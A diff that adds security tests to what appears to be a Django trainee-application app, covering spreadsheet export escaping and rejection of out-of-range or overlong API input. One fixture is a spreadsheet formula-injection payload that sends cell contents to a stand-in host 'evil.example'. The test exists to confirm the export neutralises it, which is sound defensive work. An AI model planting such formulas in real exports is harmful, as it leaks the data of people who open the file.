@@ -455,3 +455,46 @@ def test_query_count_does_not_grow_with_rows(client, world, page_name):
         services.round_publish(round_id=round_.pk, actor=None)
     large = _queries(client, url())
     assert large == small, f"{page}: {small} queries for 10 rows, {large} for 100"
+
+
+def test_key_list_export_writes_a_formula_like_nominee_name_as_text(client, world):
+    world.app.nominees.update(name="=1+2")
+    world.a.name_zh = '=HYPERLINK("http://evil.example/?"&A3,"x")'
+    world.a.save()
+    client.force_login(world.shenzhen)
+    export = client.get(reverse("trainees:round_export", args=[world.round.pk]) + "?type=compliance")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value is not None}
+    assert cells["=1+2"].data_type == "s"
+    assert cells[world.a.name_zh].data_type == "s"
+    assert sheet.freeze_panes == "A3"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/trainees/enterprises?offset=99999999999999999999999",
+        "/api/trainees/enterprises?offset=-1",
+        "/api/trainees/applications?round_id=99999999999999999999999",
+        "/api/trainees/applications?offset=1e400",
+    ],
+)
+def test_api_numbers_out_of_range_are_refused_with_4xx(client, world, url):
+    client.force_login(world.shenzhen)
+    assert client.get(url).status_code == 422
+
+
+def test_api_transition_with_an_overlong_field_is_refused_with_4xx(client, world):
+    client.force_login(world.shenzhen)
+    response = client.post(
+        f"/api/trainees/enterprises/{world.a.pk}/transitions",
+        {"action": "suspend", "ground": "x" * 5000, "evidence_reference": "y" * 5000},
+        content_type="application/json",
+    )
+    assert response.status_code == 422
+
+
+@pytest.mark.parametrize("round_id", ["²", "99999999999999999999999", "-1", "1e400"])
+def test_application_list_ignores_a_round_that_is_not_a_number(client, world, round_id):
+    client.force_login(world.shenzhen)
+    assert client.get(reverse("trainees:application_list"), {"round": round_id}).status_code == 200
